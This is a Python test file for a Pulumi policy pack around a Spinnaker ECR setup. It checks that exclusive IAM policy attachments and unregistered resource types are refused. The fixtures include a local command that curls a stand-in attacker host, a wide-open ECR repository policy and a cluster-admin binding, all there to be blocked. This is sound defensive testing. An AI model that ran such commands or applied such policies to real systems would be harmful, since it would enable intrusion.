"""The stack holds only the resource types the program registers, and never an exclusive or account-wide policy
attachment."""

from __future__ import annotations

import copy
import itertools
from typing import Any

import pytest
from test_policy_support import MANDATORY, added, findings, one, planned, preview, rules

from components.model import ACCESS_MODES, API_VERSIONS, EXTERNAL_SECRET_API_VERSIONS, REFRESH_METHODS
from tools.offline import ProgramRun, run_program

ECR_READ_ONLY_ARN = "arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryReadOnly"
ALLOWED = "resource-types-allow-listed"
EXCLUSIVE = "no-exclusive-policy-attachments"

EXCLUSIVE_ATTACHMENTS = [
    ("aws:iam/policyAttachment:PolicyAttachment", {"name": "ecr", "roles": ["r"], "policyArn": ECR_READ_ONLY_ARN}),
    ("aws:iam/rolePolicyAttachmentsExclusive:RolePolicyAttachmentsExclusive", {"roleName": "nodes", "policyArns": []}),
    ("aws:iam/userPolicyAttachmentsExclusive:UserPolicyAttachmentsExclusive", {"userName": "u", "policyArns": []}),
    ("aws:iam/groupPolicyAttachmentsExclusive:GroupPolicyAttachmentsExclusive", {"groupName": "g", "policyArns": []}),
    ("aws:iam/rolePoliciesExclusive:RolePoliciesExclusive", {"roleName": "nodes", "policyNames": []}),
    ("aws:iam/userPoliciesExclusive:UserPoliciesExclusive", {"userName": "u", "policyNames": []}),
    ("aws:iam/groupPoliciesExclusive:GroupPoliciesExclusive", {"groupName": "g", "policyNames": []}),
]


@pytest.mark.parametrize(
    "resource_type, props", EXCLUSIVE_ATTACHMENTS, ids=[t.rsplit(":", 1)[1] for t, _ in EXCLUSIVE_ATTACHMENTS]
)
def test_exclusive_and_account_wide_attachments_are_refused(
    stack_runs: dict[str, ProgramRun], resource_type: str, props: dict[str, Any]
) -> None:
    """Even with the ECR read-only ARN or empty lists: these detach what others attached (an outage from one line)."""
    found = preview(added(planned(stack_runs["dev"]), resource_type, "exclusive", props))
    one(found, EXCLUSIVE, MANDATORY, resource_type.rsplit(":", 1)[1], "RolePolicyAttachment")
    assert findings(found, ALLOWED), "nor does the program register these types"


def test_the_policy_attachment_message_says_it_is_account_wide(stack_runs: dict[str, ProgramRun]) -> None:
    resource_type, props = EXCLUSIVE_ATTACHMENTS[0]
    found = preview(added(planned(stack_runs["dev"]), resource_type, "exclusive", props))
    one(found, EXCLUSIVE, MANDATORY, "every user, role and group in the account")


ECR_WIDE_OPEN = '{"Statement":[{"Effect":"Allow","Principal":"*","Action":"ecr:*"}]}'
FOREIGN = [
    ("aws:ecr/repositoryPolicy:RepositoryPolicy", {"repository": "platform/base", "policy": ECR_WIDE_OPEN}),
    ("aws-native:iam:Role", {"assumeRolePolicyDocument": {"Statement": []}}),
    ("aws:iam/user:User", {"name": "ci"}),
    ("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", {"roleRef": {"name": "cluster-admin"}}),
    ("kubernetes:core/v1:Secret", {"stringData": {"password": "x"}}),
    ("kubernetes:spinnaker.io/v1alpha2:SpinnakerService", {"spec": {}}),
    ("pulumi:providers:aws-native", {}),
    ("pulumi:providers:command", {}),
    ("command:local:Command", {"create": "curl https://attacker.example"}),
]


@pytest.mark.parametrize("resource_type, props", FOREIGN, ids=[t for t, _ in FOREIGN])
def test_a_type_the_program_does_not_register_is_refused(
    stack_runs: dict[str, ProgramRun], resource_type: str, props: dict[str, Any]
) -> None:
    found = preview(added(planned(stack_runs["prod"]), resource_type, "foreign", props))
    one(found, ALLOWED, MANDATORY, repr(resource_type))


@pytest.mark.parametrize(
    "resource_type",
    [
        "pulumi:pulumi:Stack",
        "pulumi:providers:aws",
        "pulumi:providers:kubernetes",
        "spinnaker-ecr:index:SpinnakerEcr",
        "spinnaker-ecr:refresh:AnyFutureComponent",
    ],
)
def test_the_stack_the_providers_and_our_components_are_allowed(resource_type: str) -> None:
    assert rules.resource_types_allow_listed(resource_type, {}) == []


def program_configs() -> list[tuple[str, dict[str, Any]]]:
    """The program under every refresh method, access mode, service-account choice and API version."""
    accesses = {
        "irsa": {"mode": "irsa", "clusterName": "spin", "serviceAccount": {"name": "cd"}},
        "irsa-create": {"mode": "irsa", "clusterName": "spin", "serviceAccount": {"name": "cd", "create": True}},
        "pod-identity": {"mode": "pod-identity", "clusterName": "spin", "serviceAccount": {"name": "cd"}},
        "node-role": {"mode": "node-role", "nodeRoleName": "nodes"},
        "existing-role": {
            "mode": "existing-role",
            "roleArn": "arn:aws:iam::111122223333:role/ecr",
            "serviceAccount": {"name": "cd"},
        },
    }
    assert {a["mode"] for a in accesses.values()} == set(ACCESS_MODES), "a new access mode: list it here"
    configs = []
    for (access_name, access), method, api_version, eso_api_version in itertools.product(
        accesses.items(), REFRESH_METHODS, API_VERSIONS, EXTERNAL_SECRET_API_VERSIONS
    ):
        if method != "external-secrets" and eso_api_version != EXTERNAL_SECRET_API_VERSIONS[0]:
            continue
        token_refresh: dict[str, Any] = {"method": method}
        if method == "sidecar":
            token_refresh["image"] = "registry.example/ecr-token-refresh:1"
        config: dict[str, Any] = {
            "aws:region": "us-east-1",
            "spinnaker-ecr:access": copy.deepcopy(access),
            "spinnaker-ecr:tokenRefresh": token_refresh,
            "spinnaker-ecr:spinnaker": {"apiVersion": api_version},
            "spinnaker-ecr:registries": [{"name": "ecr", "accountId": "111122223333", "region": "us-east-1"}],
        }
        if method == "external-secrets":
            token_refresh["apiVersion"] = eso_api_version
            if access["mode"] in ("node-role", "pod-identity"):
                token_refresh["auth"] = {"secretRef": {"accessKeyIDSecretRef": {"name": "k", "key": "id"}}}
        configs.append((f"{access_name}-{method}-{api_version}-{eso_api_version}", config))
    return configs


def test_the_allow_list_is_exactly_what_the_program_registers() -> None:
    """A new resource type in the program fails here until the pack allows it, and the reverse."""
    registered = set()
    for _, config in program_configs():
        registered |= {r.type for r in run_program(config, "types").resources}
    components = {t for t in registered if t.startswith("spinnaker-ecr:")}
    assert components and all(rules.resource_types_allow_listed(t, {}) == [] for t in components)
    assert registered - components == set(rules.ALLOWED_RESOURCE_TYPES)


@pytest.mark.parametrize("stack", ["dev", "staging", "prod"])
def test_every_resource_of_our_stacks_is_allowed(stack: str, stack_runs: dict[str, ProgramRun]) -> None:
    assert findings(preview(planned(stack_runs[stack])), ALLOWED) == []
